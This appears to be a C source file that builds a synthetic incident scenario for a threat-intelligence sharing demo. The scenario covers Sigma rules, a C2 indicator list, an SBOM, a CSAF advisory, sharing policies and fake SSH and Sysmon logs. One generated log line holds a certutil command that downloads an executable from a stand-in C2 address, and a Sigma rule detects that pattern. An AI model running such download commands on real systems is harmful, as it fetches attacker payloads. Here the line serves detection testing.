/* The demo's scenario (cli/demo.h): synthetic, written for kyklos.  An
 * operator's SOC (Germany) watches a jump host; a national CSIRT (Estonia)
 * shares the address of a command-and-control server; an OT gateway
 * behind a data diode takes indicators by offline bundle.  The attack: an
 * SSH brute force on the jump host followed by a successful login, a
 * certutil download (process creation), and a connection to the C2
 * address; the jump host runs an OpenSSH with an advisory out against it.
 * Addresses are from the documentation ranges (RFC 5737). */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "base/time.h"
#include "cli/demo.h"

/* Sigma rules of the SOC, in the SigmaHQ format. */
static const char rules[] =
	"title: SSH authentication failure\n"
	"id: 5b0e7c1a-6d2f-4c1e-9a10-000000000001\n"
	"name: demo_ssh_failure\n"
	"status: test\n"
	"level: low\n"
	"author: kyklos demo\n"
	"tags:\n"
	"  - attack.credential-access\n"
	"  - attack.t1110.001\n"
	"logsource:\n"
	"  product: linux\n"
	"  service: sshd\n"
	"detection:\n"
	"  sel:\n"
	"    event.action: ssh_login\n"
	"    event.outcome: failure\n"
	"  condition: sel\n"
	"---\n"
	"title: SSH login accepted\n"
	"id: 5b0e7c1a-6d2f-4c1e-9a10-000000000002\n"
	"name: demo_ssh_success\n"
	"status: test\n"
	"level: low\n"
	"author: kyklos demo\n"
	"logsource:\n"
	"  product: linux\n"
	"  service: sshd\n"
	"detection:\n"
	"  sel:\n"
	"    event.action: ssh_login\n"
	"    event.outcome: success\n"
	"  condition: sel\n"
	"---\n"
	"title: SSH brute force from one address\n"
	"id: 5b0e7c1a-6d2f-4c1e-9a10-000000000003\n"
	"name: demo_ssh_brute_force\n"
	"status: test\n"
	"level: high\n"
	"author: kyklos demo\n"
	"tags:\n"
	"  - attack.credential-access\n"
	"  - attack.t1110.001\n"
	"correlation:\n"
	"  type: event_count\n"
	"  rules:\n"
	"    - demo_ssh_failure\n"
	"  group-by:\n"
	"    - source.ip\n"
	"  timespan: 5m\n"
	"  condition:\n"
	"    gte: 5\n"
	"  generate: true\n"
	"---\n"
	"title: SSH login after a brute force from the same address\n"
	"id: 5b0e7c1a-6d2f-4c1e-9a10-000000000004\n"
	"status: test\n"
	"level: critical\n"
	"author: kyklos demo\n"
	"tags:\n"
	"  - attack.credential-access\n"
	"  - attack.t1110.001\n"
	"correlation:\n"
	"  type: temporal_ordered\n"
	"  rules:\n"
	"    - demo_ssh_brute_force\n"
	"    - demo_ssh_success\n"
	"  group-by:\n"
	"    - source.ip\n"
	"  timespan: 10m\n"
	"---\n"
	"title: Certutil downloading a file\n"
	"id: 5b0e7c1a-6d2f-4c1e-9a10-000000000005\n"
	"status: test\n"
	"level: high\n"
	"author: kyklos demo\n"
	"tags:\n"
	"  - attack.command-and-control\n"
	"  - attack.t1105\n"
	"logsource:\n"
	"  product: windows\n"
	"  category: process_creation\n"
	"detection:\n"
	"  sel:\n"
	"    Image|endswith: '\\certutil.exe'\n"
	"    CommandLine|contains|all:\n"
	"      - 'urlcache'\n"
	"      - 'http'\n"
	"  condition: sel\n";

/* The CSIRT's list: shared with the circle as STIX indicators. */
static const char c2_list[] = "value,type,confidence\n" DEMO_C2 ",ipv4,90\n"
			      "c2-relay.example.net,domain,80\n";

/* The SOC's inventory and the jump host's software. */
static const char assets[] =
	"id,hostnames,addresses,owner,criticality,location,country\n"
	"jump01,jump01;jump01.corp.example,10.20.0.5,it-ops,5,Hamburg,DE\n"
	"ws-fin-07,ws-fin-07,10.20.1.7,finance,3,Hamburg,DE\n";

static const char sbom[] =
	"{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\"version\":1,"
	"\"metadata\":{\"component\":{\"type\":\"device\",\"name\":\"jump01\""
	"}},\"components\":[{\"type\":\"application\",\"name\":\"openssh-"
	"server\",\"version\":\"1:9.2p1-2+deb12u2\",\"purl\":\"pkg:deb/debian/"
	"openssh-server@1:9.2p1-2+deb12u2\"}]}\n";

/* A CSAF 2.0 advisory against that OpenSSH, actively exploited. */
static const char advisory[] =
	"{\"document\":{\"category\":\"csaf_base\",\"csaf_version\":\"2.0\","
	"\"lang\":\"en\",\"title\":\"OpenSSH server: authentication bypass "
	"(demo)\",\"publisher\":{\"category\":\"coordinator\",\"name\":"
	"\"Demo CSIRT\",\"namespace\":\"https://csirt.example\"},\"tracking\":"
	"{\"id\":\"DEMO-2026-0042\",\"version\":\"1\",\"status\":\"final\","
	"\"initial_release_date\":\"2026-11-20T08:00:00.000Z\","
	"\"current_release_date\":\"2026-11-20T08:00:00.000Z\","
	"\"revision_history\":[{\"number\":\"1\",\"summary\":\"Initial\","
	"\"date\":\"2026-11-20T08:00:00.000Z\"}]}},\"product_tree\":"
	"{\"branches\":[{\"category\":\"vendor\",\"name\":\"Debian\","
	"\"branches\":[{\"category\":\"product_name\",\"name\":\"openssh-"
	"server\",\"branches\":[{\"category\":\"product_version_range\","
	"\"name\":\"vers:deb/<1:9.2p1-2+deb12u3\",\"product\":{\"product_id\":"
	"\"SSH-OLD\",\"name\":\"openssh-server < 1:9.2p1-2+deb12u3\","
	"\"product_identification_helper\":{\"purl\":\"pkg:deb/debian/"
	"openssh-server\"}}}]}]}]},\"vulnerabilities\":[{\"cve\":\"" DEMO_CVE
	"\",\"product_status\":{\"known_affected\":[\"SSH-OLD\"]},\"threats\":"
	"[{\"category\":\"exploit_status\",\"details\":\"Actively exploited "
	"in the wild\",\"product_ids\":[\"SSH-OLD\"]}],\"remediations\":[{"
	"\"category\":\"vendor_fix\",\"details\":\"upgrade to "
	"1:9.2p1-2+deb12u3\",\"product_ids\":[\"SSH-OLD\"]}]}]}\n";

/* What leaves the SOC: to the CSIRT, under TLP AMBER at most, addresses
 * prefix-preserving pseudonyms, users and hosts keyed tokens; to the OT
 * gateway, indicators only. */
static const char soc_policy[] =
	"version: 1\n"
	"rules:\n"
	"  - match: [csirt]\n"
	"    tlp_max: amber\n"
	"    types: [indicator, sighting, incident, observed-data, "
	"vulnerability]\n"
	"    redact: [description]\n"
	"    pseudonymise: {addresses: cryptopan, users: hmac, hosts: hmac}\n"
	"  - match: [ot]\n"
	"    tlp_max: amber\n"
	"    types: [indicator]\n";

static const char csirt_policy[] = "version: 1\n"
				   "rules:\n"
				   "  - match: [soc]\n"
				   "    tlp_max: amber\n";

static const char ot_policy[] = "version: 1\nrules: []\n";

/* The circle's pseudonymisation key, the same on every node. */
static const char circle_key[] = "6b796b6c6f732064656d6f2063697263"
				 "6c65206b65793a206e6f742073656372\n";

int demo_write_scenario(struct demo *d)
{
	static const struct {
		int node; /* -1: the demo directory */
		const char *name, *text;
		bool secret;
	} files[] = {
		{1, "rules.yml", rules, false},
		{0, "c2.csv", c2_list, false},
		{1, "assets.csv", assets, false},
		{1, "jump01.cdx.json", sbom, false},
		{-1, "advisory.json", advisory, false},
		{1, "policy.yaml", soc_policy, false},
		{0, "policy.yaml", csirt_policy, false},
		{2, "policy.yaml", ot_policy, false},
		{0, "keys/circle.key", circle_key, true},
		{1, "keys/circle.key", circle_key, true},
		{2, "keys/circle.key", circle_key, true},
	};
	char path[4400];

	for (int i = 0; i < 3; i++) { /* a token node has no keys/ yet */
		snprintf(path, sizeof(path), "%s/keys", d->n[i].home);
		(void)mkdir(path, 0700);
	}
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s",
			 files[i].node < 0 ? d->dir : d->n[files[i].node].home,
			 files[i].name);
		if (demo_write(path, files[i].text, files[i].secret) != 0)
			return -1;
	}
	return 0;
}

/* A syslog time stamp (RFC 3164: no year, no zone; UTC here) t seconds
 * from now. */
static void stamp3164(int64_t now, int t, char out[32])
{
	time_t s = (time_t)(now / 1000000000) + t;
	struct tm tm;

	gmtime_r(&s, &tm);
	strftime(out, 32, "%b %e %H:%M:%S", &tm);
}

void demo_events(struct ky_buf *syslog, struct ky_buf *json)
{
	int64_t now = ky_time_now_ns();
	char stamp[32], iso[KY_TIME_RFC3339_LEN];

	/* six failures a second apart, then the password works: each a
	 * second later than the one before, so that event time orders them
	 * whichever worker parses which line */
	for (int i = 0; i < 6; i++) {
		stamp3164(now, i - 10, stamp);
		ky_buf_addf(syslog,
			    "<38>%s " DEMO_HOST " sshd[%d]: Failed password "
			    "for " DEMO_USER " from " DEMO_ATTACKER
			    " port %d ssh2\n",
			    stamp, 4210 + i, 50020 + i);
	}
	stamp3164(now, -3, stamp);
	ky_buf_addf(syslog,
		    "<38>%s " DEMO_HOST
		    " sshd[4299]: Accepted password for " DEMO_USER
		    " from " DEMO_ATTACKER " port 50030 ssh2\n",
		    stamp);
	/* a Sysmon process creation (evtx_dump JSON), then the connection
	 * to the C2 (ECS-style JSON) */
	ky_time_format_rfc3339(now - 2000000000LL, iso);
	ky_buf_addf(
		json,
		"{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{"
		"\"Name\":\"Microsoft-Windows-Sysmon\"}},\"EventID\":1,"
		"\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
		"\"Computer\":\"" DEMO_HOST
		"\",\"TimeCreated\":{\"#attributes\":"
		"{\"SystemTime\":\"%s\"}}},\"EventData\":{\"Image\":\"C:\\\\"
		"Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":"
		"\"certutil"
		".exe -urlcache -split -f http://" DEMO_C2 "/p.exe p.exe\","
		"\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
		"\"User\":\"CORP\\\\" DEMO_USER "\"}}}\n",
		iso);
	ky_time_format_rfc3339(now - 1000000000LL, iso);
	ky_buf_addf(json,
		    "{\"@timestamp\":\"%s\",\"host\":{\"name\":\"" DEMO_HOST
		    "\"},\"event\":{\"category\":\"network\",\"action\":"
		    "\"connection\"},\"source\":{\"ip\":\"10.20.0.5\"},"
		    "\"destination\":{\"ip\":\"" DEMO_C2 "\",\"port\":443}}\n",
		    iso);
}
